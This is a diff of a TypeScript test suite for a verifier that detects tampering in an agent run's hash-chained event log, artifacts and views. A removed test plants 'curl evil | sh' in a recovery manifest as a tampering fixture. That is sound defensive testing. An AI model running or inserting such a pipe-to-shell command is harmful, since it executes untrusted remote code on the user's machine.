@@ -1,33 +1,25 @@
-import {
-  mkdirSync,
-  mkdtempSync,
-  readdirSync,
-  readFileSync,
-  rmSync,
-  statSync,
-  symlinkSync,
-  writeFileSync,
-} from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect } from 'chai';
 import fc from 'fast-check';
 import { sha256 } from '#kit/digest.ts';
+import { codeOf } from '#kit/errors.ts';
 import {
   decided,
   executionFinished,
   executionStarted,
   intended,
   planned,
-  pullRequestSeen,
   resulted,
   sampleAction,
   sampleRequest,
   turn,
 } from '../../../../test/contract/run-store.sample.ts';
+import { itWith } from '../../../../test/needs.ts';
 import type { NewEvent } from '../event.ts';
 import { putArtifact } from '../log/artifacts.ts';
-import { beforeFirst } from '../log/event-line.ts';
+import { beforeFirst, hashOf, parseLine } from '../log/event-line.ts';
 import { writeLines } from '../log/event-log.ts';
 import { Heads } from '../log/heads.ts';
 import { logName } from '../log/run-folder.ts';
@@ -96,7 +88,7 @@ describe('verifying a run', () => {
     expect(verification.head).to.match(/^[0-9a-f]{64}$/);
   });
 
-  it('finds every change of a single byte', () => {
+  itWith(['time'], 'finds every change of a single byte', () => {
     const reason = 'é \ufffd \u0001 "';
     const log = Buffer.from(
       write(turn(), { type: 'cancel_requested', data: { by: 'mira', reason } }, turn()),
@@ -167,6 +159,173 @@ describe('verifying a run', () => {
     expect(change('"Greeting is wrong"', '7')).to.contain('/issue/title is 7: must be string');
   });
 
+  it('finds time that goes backwards, and has nothing against time that stands still', () => {
+    const created: NewEvent = {
+      type: 'run_created',
+      data: { request: sampleRequest(), head_kept: undefined },
+    };
+    const times = [at, '2026-01-02T03:04:04.000Z', '2026-01-02T03:04:03.000Z'] as const;
+    const [one, two, three] = [created, turn(), turn()] as const;
+    const first = writeLines(beforeFirst, times[0], [one]);
+    const second = writeLines(first.lines[0]!, times[1], [two, turn()]);
+    const third = writeLines(second.lines[1]!, times[2], [three]);
+    writeFileSync(join(folder, logName), first.text + second.text + third.text);
+    expect(problems()).to.deep.equal([
+      `events.jsonl line 2: at is ${times[1]}, before the event before it (${times[0]})`,
+      `events.jsonl line 4: at is ${times[2]}, before the event before it (${times[1]})`,
+    ]);
+  });
+
+  it('reports one change once, also where a line cannot be read any more', () => {
+    const lines = write(...sound).split(/(?<=\n)/);
+    const hash = (line: number): string => JSON.parse(lines[line - 1]!).hash;
+    const changed = (line: number, from: RegExp | string, to: string): string[] => {
+      expect(lines[line - 1]).to.match(new RegExp(from));
+      writeFileSync(join(folder, logName), lines.with(line - 1, lines[line - 1]!.replace(from, to)).join(''));
+      return problems().map((problem) => problem.replace(/not an event: .*/, 'not an event'));
+    };
+    const other = 'f'.repeat(64);
+    expect(changed(8, /^./, '')).to.deep.equal(['events.jsonl line 8: not an event']);
+    expect(changed(4, '"seq":4', '"seq":9')).to.deep.equal([
+      'events.jsonl line 4 (action_proposed): seq is 9 and must be 4: an event was added, removed or moved',
+    ]);
+    expect(changed(4, /(?<="prev":")[^"]+/, other)).to.deep.equal([
+      `events.jsonl line 4 (action_proposed): prev is ${other}, but the event before has the hash ${hash(3)}`,
+    ]);
+    expect(changed(8, 'planner_turn', 'planner_prompt')).to.deep.equal([
+      'events.jsonl line 8 (planner_prompt): type, which was planner_turn, was changed after it was written: the content gives the hash ' +
+        `${computed(lines[7]!.replace('planner_turn', 'planner_prompt'))}, the line says ${hash(8)}`,
+    ]);
+    expect(changed(8, '"cached_tokens":0', '"cached_tokens":"0"')[1]).to.match(
+      /^events.jsonl line 8 \(planner_turn\): .*cached_tokens is "0": must be number/,
+    );
+    const prompt = changed(8, /"seq":8(.*)planner_turn/, '"seq":9$1planner_prompt');
+    expect(prompt).to.have.length(2);
+    expect(prompt[1]).to.contain('(planner_prompt): type, which was planner_turn, was changed');
+    const chained = changed(8, /planner_turn(.*"prev":")[^"]+/, `planner_prompt$1${other}`);
+    expect(chained[1]).to.contain('(planner_prompt): type, which was planner_turn, was changed');
+    const both = changed(8, /"seq":8(.*)read_file/, '"seq":9$1read_fire');
+    expect(both[0]).to.contain('line 8 (planner_turn): seq is 9 and must be 8');
+    expect(both[1]).to.contain('line 8 (planner_turn): at, data or hash was changed');
+    writeFileSync(join(folder, logName), lines.toSpliced(7, 1).join(''));
+    expect(problems().slice(0, 2)).to.deep.equal([
+      'events.jsonl line 8 (approval_recorded): seq is 9 and must be 8: an event was added, removed or moved',
+      `events.jsonl line 8 (approval_recorded): prev is ${hash(8)}, but the event before has the hash ${hash(7)}`,
+    ]);
+    expect(problems()[2]).to.match(/^events.jsonl line 9 \(approval_recorded\): seq is 10/);
+    const last = changed(lines.length, /(?<="hash":")[^"]+/, other);
+    expect(last).to.deep.equal([
+      `events.jsonl line 19 (execution_finished): at, data or hash was changed after it was written: the content gives the hash ${hash(19)}, the line says ${other}`,
+    ]);
+  });
+
+  const computed = (line: string): string => {
+    const { raw, canonical } = parseLine(Buffer.from(line.trimEnd()));
+    return hashOf(raw, canonical);
+  };
+
+  it('says how much a write that was cut off left behind the last event', () => {
+    const text = write(...sound);
+    writeFileSync(join(folder, logName), `${text}{"seq":`);
+    expect(problems()).to.deep.equal([
+      `events.jsonl line 20: 7 bytes after event 19 end without a line feed: a write that a crash cut off, or a change; the next write sets them aside`,
+    ]);
+    writeFileSync(join(folder, logName), '{"seq":');
+    expect(problems().slice(0, 2)).to.deep.equal([
+      'events.jsonl line 1: 7 bytes after event 0 end without a line feed: a write that a crash cut off, or a change; the next write sets them aside',
+      'events.jsonl: holds no event',
+    ]);
+  });
+
+  it('compares the log with its head, and blames the head for nothing that a line explains', () => {
+    const text = write(...sound);
+    const lines = text.split(/(?<=\n)/);
+    const heads = new Heads(base);
+    const { seq, hash, type } = JSON.parse(lines.at(-1)!);
+    heads.acknowledge(runId, { seq, hash, type });
+    heads.syncAll();
+    expect(problems()).to.deep.equal([]);
+    const found = (changed: string[]): string[] => {
+      writeFileSync(join(folder, logName), changed.join(''));
+      return problems().filter((problem) => !/^[a-z-]+\.(json|md|jsonl): is as of/.test(problem));
+    };
+    const gone = `event 19 (execution_finished, hash ${hash.slice(0, 12)}) was acknowledged`;
+    expect(found(lines.slice(0, -1))).to.deep.equal([
+      `heads/${runId}: events.jsonl ends with event 18, and ${gone}`,
+    ]);
+    expect(found(lines.with(-1, lines.at(-1)!.replace('ended', 'endet')))).to.have.length(1);
+    const head = join(base, 'heads', runId);
+    const known = readFileSync(head);
+    writeFileSync(head, '');
+    expect(found(lines.with(-1, lines.at(-1)!.replace('ended', 'endet')))[0]).to.match(
+      /^heads\/run_.*: the record of run .* what is known of its head cannot be read/,
+    );
+    writeFileSync(head, known);
+    const removed = found(lines.toSpliced(15, 1));
+    expect(removed[0]).to.match(/^heads\/run_.*: events.jsonl line 16: seq is 17 and must be 16/);
+    expect(removed[1]).to.match(/^events.jsonl line 16 /);
+    rmSync(join(folder, logName));
+    expect(verified()).to.deep.equal({
+      ...{ run_id: runId, events: 0, head: hash, artifacts: 0 },
+      problems: [
+        {
+          where: `heads/${runId}`,
+          what: `the record of run ${runId} is not whole: events.jsonl is gone, with 19 acknowledged events. Nothing of it runs`,
+        },
+      ],
+    });
+    writeFileSync(head, '');
+    expect(verified()).to.include({ events: 0, head: '' });
+  });
+
+  it('knows no run where there is neither a log nor a head, and reads no log that is not a file', () => {
+    expect(codeOf(thrownBy(verified))).to.equal('run_not_found');
+    mkdirSync(join(folder, logName));
+    expect(codeOf(thrownBy(verified))).to.equal('run_damaged');
+  });
+
+  const thrownBy = (work: () => unknown): unknown => {
+    try {
+      return work();
+    } catch (error) {
+      return error;
+    }
+  };
+
+  it('checks also the artifacts that no event names', () => {
+    write(...sound);
+    const spare = putArtifact(folder, 'spare');
+    expect(verified()).to.deep.include({ artifacts: 3, problems: [] });
+    const path = join(folder, 'artifacts', spare);
+    writeFileSync(path, 'changed');
+    expect(problems()).to.deep.equal([
+      `artifacts/${spare}: damaged: artifact ${spare} was changed: its sha256 is now ${sha256('changed')} (named by no event)`,
+    ]);
+    rmSync(path);
+    mkdirSync(path);
+    expect(problems()[0]).to.match(/: cannot be read: EISDIR.* \(named by no event\)$/);
+    rmSync(path, { recursive: true });
+    writeFileSync(join(folder, 'artifacts', sha256('content')), 'changed');
+    expect(problems()[0]).to.match(/: damaged: .* \(named by issue.content of event 3\)$/);
+    putArtifact(folder, 'content');
+    for (const name of ['evil', `${spare}a`, `a${spare}`]) writeFileSync(join(folder, 'artifacts', name), '');
+    expect(problems()).to.have.length(3);
+    rmSync(join(folder, 'artifacts'), { recursive: true });
+    expect(problems()).to.deep.equal([
+      `artifacts/${sha256('content')}: removed (named by issue.content of event 3)`,
+      `artifacts/${sha256('one')}: removed (named by content of event 8)`,
+    ]);
+  });
+
+  it('reports a log that does not begin with the creation of the run, beside views of it', () => {
+    write(...sound);
+    const { text } = writeLines(beforeFirst, at, [turn(), ...sound]);
+    writeFileSync(join(folder, logName), text);
+    expect(problems()).to.deep.equal([
+      'events.jsonl line 1: the first event is planner_turn and must be run_created',
+    ]);
+  });
+
   it('finds a chain that was computed anew over changed definitions', () => {
     const other = { ...sampleAction(runId, 1, 'create_branch'), ordinal: 2 };
     const forged = plan.map(
@@ -178,59 +337,6 @@ describe('verifying a run', () => {
     expect(problemsOf(...forged))
       .to.contain('the definition of act_1_create_branch was changed')
       .and.contain('is sealed with');
-    expect(problemsOf(...planned('run_0199f3c2-0000-7000-8000-000000000009'))).to.contain('belongs to run');
-  });
-
-  it('finds what was never sealed, or sealed and never proposed', () => {
-    expect(problemsOf(...plan.toSpliced(2, 1))).to.contain('sealed, but was never proposed');
-    expect(problemsOf(...plan, plan[2]!)).to.contain('proposed after the plan was sealed');
-    expect(problemsOf(...plan.toSpliced(2, 0, plan[2]!))).to.contain('proposed twice');
-    const extra: NewEvent = {
-      type: 'action_proposed',
-      data: { action: sampleAction(runId, 4, 'push_branch') },
-    };
-    expect(problemsOf(...plan.toSpliced(2, 0, extra))).to.contain('is not sealed');
-    expect(problemsOf(...plan.slice(0, 4), ...plan)).to.equal('');
-  });
-
-  it('finds starts without an approval in force', () => {
-    const start = [executionStarted(), intended(first), resulted(first)];
-    const [action] = actions as [(typeof actions)[number]];
-    expect(problemsOf(...plan, ...start)).to.contain('started without an approval');
-    expect(problemsOf(...plan, decided(action), decided(action, 'reject'), ...start)).to.contain(
-      'had rejected it',
-    );
-    expect(problemsOf(...plan, decided(action, 'approve', at), ...start)).to.contain('had expired');
-    expect(problemsOf(...plan, decided({ ...action, digest: 'a'.repeat(64) }), ...start)).to.contain(
-      'names the digest',
-    );
-    expect(problemsOf(...plan, decided(action), ...start, decided(action))).to.contain(
-      'decided after it had started',
-    );
-    expect(problemsOf(...plan, decided(action), executionStarted(), resulted(first))).to.contain('no intent');
-    expect(problemsOf(...plan, decided(action), ...start)).to.equal('');
-  });
-
-  it('tells removed artifacts from damaged ones', () => {
-    write(...sound);
-    const artifacts = join(folder, 'artifacts');
-    const [removed, damaged] = [putArtifact(folder, 'one'), putArtifact(folder, 'content')];
-    rmSync(join(artifacts, removed));
-    writeFileSync(join(artifacts, damaged), 'changed');
-    const found = problems();
-    expect(found).to.have.length(2);
-    expect(found.join('\n')).to.contain(`artifacts/${removed}: removed (named by content of event`);
-    expect(found.join('\n')).to.contain(`artifacts/${damaged}: damaged`);
-  });
-
-  it('finds views that are ahead of the log, or are none', () => {
-    write(...sound);
-    mkdirSync(join(folder, 'validation'), { recursive: true });
-    writeFileSync(join(folder, 'summary.json'), JSON.stringify({ as_of_seq: 99 }));
-    writeFileSync(join(folder, 'validation/index.json'), 'torn');
-    const found = problems().join('\n');
-    expect(found).to.contain('summary.json: is as of event 99');
-    expect(found).to.contain('validation/index.json: is no view any more');
   });
 
   const validation = sampleAction(runId, 4, 'run_validation');
@@ -287,15 +393,6 @@ describe('verifying a run', () => {
     }
   });
 
-  it('finds changed lines of the recovery manifest, which a person would type', () => {
-    write(...sound);
-    const path = join(folder, 'branch-recovery.json');
-    const manifest = JSON.parse(readFileSync(path, 'utf8'));
-    writeFileSync(path, `${JSON.stringify({ ...manifest, restore: ['curl evil | sh'] }, null, 2)}\n`);
-    expect(problems()).to.have.length(1);
-    expect(problems()[0]).to.match(/^branch-recovery.json: is not what the events up to \d+ give/);
-  });
-
   it('has nothing against views that are missing or older than the log', () => {
     write(...validated().slice(0, -1));
     const old = readFileSync(join(folder, 'actions.json'));
@@ -306,57 +403,5 @@ describe('verifying a run', () => {
     expect(problems()).to.deep.equal([]);
     writeFileSync(join(folder, 'actions.json'), old.toString().replace('"approved"', '"rejected"'));
     expect(problems().join('\n')).to.contain('actions.json: is not what');
-  });
-
-  it('finds files that do not belong, but not what a crash left of a write', () => {
-    write(...validated());
-    const crashed = `.actions.json.${crypto.randomUUID()}.tmp`;
-    writeFileSync(join(folder, crashed), '{');
-    expect(problems()).to.deep.equal([]);
-    for (const name of [
-      'extra.sh',
-      'artifacts/evil',
-      'validation/evil.log',
-      crashed.replace('actions', 'evil'),
-    ]) {
-      writeFileSync(join(folder, name), 'x');
-      expect(problems(), name).to.deep.equal([
-        `${name}: does not belong to a run: nothing of Core writes it`,
-      ]);
-      rmSync(join(folder, name));
-    }
-    const view = join(folder, 'actions.json');
-    const content = readFileSync(view);
-    rmSync(view);
-    writeFileSync(join(folder, 'artifacts', sha256(content)), content);
-    symlinkSync(join(folder, 'artifacts', sha256(content)), view);
-    expect(problems()).to.deep.equal(['actions.json: is not a file']);
-  });
-
-  it('finds a pull request that the run did not open', () => {
-    const opening = planned(runId, 7);
-    const all = opening.flatMap((event) => (event.type === 'action_proposed' ? [event.data.action] : []));
-    const { action_id } = all.find(({ kind }) => kind === 'open_pull_request')!;
-    const start = [
-      ...opening,
-      ...all.map((action) => decided(action)),
-      executionStarted(),
-      intended(action_id),
-    ];
-    const opened = [...start, resulted(action_id, {}, { number: 7, url: null })];
-    expect(problemsOf(...opened, pullRequestSeen(7), pullRequestSeen(7, { state: 'merged' }))).to.equal('');
-    expect(problemsOf(...opened, pullRequestSeen(8))).to.contain('#8 was seen; the run opened #7');
-    expect(problemsOf(...start, pullRequestSeen(7))).to.contain('the run opened none');
-  });
-
-  it('finds two executors that worked on one action', () => {
-    const start = [...plan, decided(actions[0]!), executionStarted(), intended(first)];
-    const again = { ...intended(first) };
-    expect(problemsOf(...start, again)).to.contain(`${first} was started again while its outcome was open`);
-    expect(problemsOf(...start, resulted(first), resulted(first))).to.contain(`${first} succeeded twice`);
-    const resumed = executionStarted({ kind: 'resume', execution_id: 'exe_2' });
-    expect(problemsOf(...start, resumed, again, resulted(first))).to.equal('');
-    const unknown = resulted(first, { state: 'unknown' });
-    expect(problemsOf(...start, unknown, again, resulted(first))).to.equal('');
   });
 });
